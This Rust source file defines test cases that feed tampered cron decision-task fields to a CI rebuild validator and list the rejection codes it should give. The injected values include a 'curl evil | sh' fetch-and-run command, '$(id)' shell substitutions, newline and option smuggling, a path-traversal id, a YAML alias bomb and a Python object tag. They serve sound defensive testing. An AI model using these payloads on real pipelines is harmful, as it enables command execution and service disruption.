//! Cron tasks that are not of a job of their tree, or say more than one.

use super::ways::{alias_bomb, answer, git_cron};
use crate::attacks::{Attack, T, V, attack};
use crate::change::{decision, json, page_answers, page_missing, set};
use crate::told::{job_lacks, job_says, jobs_are, jobs_say};
use crate::valid::cron;

/// The line of the job that says how its tasks are chosen.
const METHOD: &str = "target-tasks-method: nightly\n";
/// The same for a job that includes an input.
const INCLUDES_INPUT: &str = "target-tasks-method: nightly\n      include-cron-input: true\n";

pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "cron task with an argument more",
        &[T],
        "A cron job's decision task chooses the tasks of a release, which its job does not.",
        cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=nightly --target-tasks-method=release"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task with a command behind its arguments",
        &[T],
        "A cron job's arguments end in another command.",
        cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=nightly; curl evil | sh"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task with a command within its arguments",
        &[T],
        "A cron job's argument has a command that a shell runs.",
        cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=$(id)"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task with an argument over two lines",
        &[T],
        "A cron job's arguments go on in a second line, with a command of their own.",
        cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=nightly\nid"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task without its argument",
        &[T],
        "A cron job on GitHub leaves out how it chooses its tasks.",
        git_cron,
        |c| job_says(c, "quoted_args", ""),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task of another method",
        &[T],
        "A cron job on GitHub chooses other tasks than the tree says.",
        git_cron,
        |c| job_says(c, "quoted_args", "--target-tasks-method=release"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task whose argument is quoted",
        &[T],
        "A cron job's argument stands between quotes, as none does that needs none.",
        cron,
        |c| job_says(c, "quoted_args", "'--target-tasks-method=nightly'"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task of another symbol",
        &[T],
        "A cron job's decision task shows another job's symbol.",
        cron,
        |c| job_says(c, "job_symbol", "R"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task whose symbol is a command",
        &[T],
        "The symbol of a cron job on GitHub is a command that a shell runs.",
        git_cron,
        |c| job_says(c, "job_symbol", "$(id)"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron task of no job",
        &[T],
        "A cron job's decision task has the name and the scopes of a job that the tree does not have.",
        cron,
        |c| job_says(c, "job_name", "release"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron task of no job on GitHub",
        &[T],
        "A cron job's decision task on GitHub has the scopes of a job that the tree does not have.",
        git_cron,
        |c| job_says(c, "job_name", "release"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron task whose job is a command",
        &[T],
        "The name of a cron job has a command that a shell runs.",
        cron,
        |c| job_says(c, "job_name", "nightly$(id)"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron task whose job is a pattern",
        &[T],
        "The name of a cron job is a pattern, and its scopes are those of all jobs.",
        git_cron,
        |c| job_says(c, "job_name", "*"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron task of a job that fires an action",
        &[T],
        "A cron job's decision task has the name of a job that makes no decision task.",
        cron,
        |c| job_says(c, "job_name", "bump"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron job that the tree has no more",
        &[T],
        "The tree at the revision of a cron job's decision task has no such job.",
        cron,
        |c| jobs_say(c, "name: nightly", "name: weekly"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron jobs that are none",
        &[T],
        "The tree on GitHub has no cron jobs at all.",
        git_cron,
        |c| jobs_are(c, "jobs: []\n"),
        "rebuild-cron-job-unknown",
    ),
    attack(
        "cron job of another method in the tree",
        &[T],
        "The tree lets the cron job choose other tasks than its decision task does.",
        cron,
        |c| jobs_say(c, METHOD, "target-tasks-method: beta\n"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron job with one argument more in the tree",
        &[T],
        "The tree lets the cron job use tasks of the push again, and its decision task does not say so.",
        git_cron,
        |c| jobs_say(c, METHOD, "target-tasks-method: nightly\n      include-push-tasks: true\n"),
        "rebuild-cron-differs",
    ),
    attack(
        "cron job that stands twice in the tree",
        &[T],
        "The tree has two jobs of the name, and the decision task is of the first, which does not count.",
        cron,
        |c| {
            let second = "  - {name: nightly, job: {type: decision-task, treeherder-symbol: N, target-tasks-method: b}}\n";
            jobs_say(c, "  - name: bump\n", &format!("{second}  - name: bump\n"))
        },
        "rebuild-cron-differs",
    ),
    attack(
        "input for a cron job that includes none",
        &[T],
        "A cron job's decision task has an input, which its job does not include.",
        cron,
        |c| job_says(c, "input", json("{\"level\":\"3\"}")?),
        "rebuild-cron-differs",
    ),
    attack(
        "input for a cron job on GitHub that includes none",
        &[T],
        "A cron job's decision task on GitHub has an input, which its job does not include.",
        git_cron,
        |c| job_says(c, "input", json("{\"a\":[]}")?),
        "rebuild-cron-differs",
    ),
    attack(
        "input of a cron job that is a command",
        &[T],
        "The input of a cron job has a command that a shell runs.",
        cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("{\"version\":\"$(id)\"}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input of a cron job with a quote",
        &[T],
        "The input of a cron job on GitHub has a quote deep inside of it.",
        git_cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("{\"a\":[{\"b\":[\"x\",\"y'z\"]}]}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input of a cron job with an option",
        &[T],
        "The input of a cron job has two words, of which the second is an option.",
        cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("{\"version\":\"1 --level=3\"}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input of a cron job whose key is a command",
        &[T],
        "The input of a cron job on GitHub has a key that is a command.",
        git_cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("{\"`id`\":1}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input of a cron job that is a list",
        &[T],
        "The input of a cron job is a list, and not an object.",
        cron,
        |c| {
            jobs_say(c, METHOD, INCLUDES_INPUT)?;
            job_says(c, "input", json("[\"x\"]")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task made by a command",
        &[T],
        "The task that made a cron job's decision task is a command that a shell runs.",
        cron,
        |c| job_says(c, "task_id", "$(id)"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task made by no task",
        &[T],
        "A cron job's decision task does not tell by which task it was made.",
        git_cron,
        |c| job_says(c, "task_id", "<cron task id>"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task made by a long id",
        &[T],
        "The task that made a cron job's decision task has an id with more behind it.",
        cron,
        |c| job_says(c, "task_id", "b7yVvZ2nTVu2jLrpQmWcYg/../x"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task that says more",
        &[T],
        "A cron job's decision task says one thing more of its job than is ever said.",
        cron,
        |c| job_says(c, "user", "$(id)"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task that says more on GitHub",
        &[T],
        "A cron job's decision task on GitHub has a member that no job has.",
        git_cron,
        |c| job_says(c, "task_name", "nightly"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task without its symbol",
        &[T],
        "A cron job's decision task on GitHub does not say the symbol of its job.",
        git_cron,
        |c| job_lacks(c, "job_symbol"),
        "rebuild-value-unconfirmed",
    ),
    attack(
        "cron task whose job is a list",
        &[T],
        "What a cron job's decision task says of its job is a list.",
        cron,
        |c| decision(c, &["extra", "cron"], "[]"),
        "rebuild-environment",
    ),
    attack(
        "cron jobs that are no YAML",
        &[V],
        "The tree's cron jobs are cut off within a list.",
        cron,
        |c| jobs_are(c, "jobs: [{name: nightly"),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron jobs without a list",
        &[V],
        "The tree's cron jobs are not in a list.",
        git_cron,
        |c| jobs_are(c, "jobs: {nightly: {type: decision-task}}\n"),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron jobs of aliases of aliases",
        &[V],
        "Cron jobs of a few lines stand for a hundred billion items.",
        cron,
        |c| jobs_are(c, &alias_bomb("jobs")),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron jobs with a tag of Python's",
        &[V],
        "The tree's cron jobs ask whoever reads them to call a function.",
        git_cron,
        |c| jobs_say(c, "jobs:\n", "x: !!python/object/apply:os.getcwd []\njobs:\n"),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron job whose symbol is a number",
        &[V],
        "The symbol of a cron job is a number in the tree.",
        cron,
        |c| jobs_say(c, "treeherder-symbol: N\n", "treeherder-symbol: 1\n"),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron job without a symbol",
        &[V],
        "A cron job has no symbol in the tree.",
        git_cron,
        |c| jobs_say(c, "      treeherder-symbol: N\n", ""),
        "rebuild-cron-malformed",
    ),
    attack(
        "cron jobs of another file",
        &[V],
        "GitHub answers with another file than the cron jobs.",
        git_cron,
        |c| answer(c, "contents/.cron.yml", |file| set(file, &["path"], "testing/.cron.yml")),
        "rebuild-answer-about-another",
    ),
    attack(
        "cron jobs of another revision",
        &[V],
        "GitHub answers with the cron jobs at the main branch.",
        git_cron,
        |c| {
            answer(c, "contents/.cron.yml", |file| {
                let url = file.get("url")?.as_str()?.split_once("?ref=")?.0.to_owned();
                set(file, &["url"], format!("{url}?ref=main"))
            })
        },
        "rebuild-answer-about-another",
    ),
    attack(
        "cron jobs that are no base64",
        &[V],
        "The contents of the cron jobs are not in base64.",
        git_cron,
        |c| answer(c, "contents/.cron.yml", |file| set(file, &["content"], "*")),
        "rebuild-answer-malformed",
    ),
    attack(
        "cron jobs that nobody can have",
        &[V],
        "The tree's host does not say what the cron jobs are.",
        cron,
        |c| page_answers(c, ".cron.yml", 503, ""),
        "availability-unreachable",
    ),
    attack(
        "argument that is a command, where the tree has no jobs",
        &[T],
        "A cron job's argument has a command that a shell runs, and its tree has no cron jobs.",
        cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "quoted_args", "--target-tasks-method=$(id)")
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "argument of another kind, where the tree has no jobs",
        &[T],
        "A cron job's argument names the sources to build, and its tree has no cron jobs.",
        cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(
                c,
                "quoted_args",
                "--target-tasks-method=nightly --head-repository=https://hg.mozilla.org/try",
            )
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "argument that ends a line, where the tree has no jobs",
        &[T],
        "A cron job's arguments go on in a second line, and its tree has no cron jobs.",
        git_cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "quoted_args", "--include-push-tasks\n--rebuild-kind=x")
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "input, where the tree has no jobs",
        &[T],
        "A cron job's decision task has an input, and its tree has no cron jobs.",
        git_cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "input", json("{\"a\":\"b\"}")?)
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "name of two words, where the tree has no jobs",
        &[T],
        "The name of a cron job is two words, and its tree has no cron jobs.",
        cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "job_name", "nightly --level=3")
        },
        "rebuild-value-unconfirmed",
    ),
    attack(
        "symbol with a quote, where the tree has no jobs",
        &[T],
        "The symbol of a cron job has a quote, and its tree has no cron jobs.",
        git_cron,
        |c| {
            page_missing(c, ".cron.yml")?;
            job_says(c, "job_symbol", "N'")
        },
        "rebuild-value-unconfirmed",
    ),
];
